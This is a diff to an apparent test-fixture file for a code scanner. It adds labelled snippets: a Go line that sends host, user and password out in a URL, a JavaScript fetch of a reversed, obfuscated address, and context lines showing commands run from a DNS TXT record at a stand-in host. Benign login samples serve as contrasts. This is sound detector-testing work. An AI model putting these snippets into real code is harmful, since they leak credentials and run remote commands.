@@ -99,6 +99,18 @@ const shapes: readonly (readonly [string, Language, string, readonly string[]])[
     ['host-literal', 'network', 'secrets-sent'],
   ],
   [
+    'a password becomes part of an address',
+    'go',
+    'import "net/http"\nfunc f() { http.Get(bot + url.QueryEscape(host+":"+user+":"+password)) }',
+    ['network', 'secrets-sent'],
+  ],
+  [
+    'an address is written backwards',
+    'javascript',
+    "const a = 'gpj.a/elpmaxe.scip//:sptth'.split('').reverse().join(''); fetch(a)",
+    ['encoded-payload', 'host-literal', 'network'],
+  ],
+  [
     'a command comes in a TXT record',
     'go',
     'txt, _ := net.LookupTXT("c.example.net")\nfor _, l := range txt { exec.Command(l).Run() }',
@@ -301,6 +313,12 @@ const ordinary: readonly (readonly [string, Language, string, readonly string[]]
     'a password signs in',
     'python',
     'auth = base64.b64encode(f"{user}:{password}".encode())\nrequests.get(url, headers={"Authorization": b"Basic " + auth})',
+    ['network'],
+  ],
+  [
+    'a form signs in',
+    'javascript',
+    'fetch(url, { method: "POST", body: `user=${user}&password=${password}` })',
     ['network'],
   ],
   [
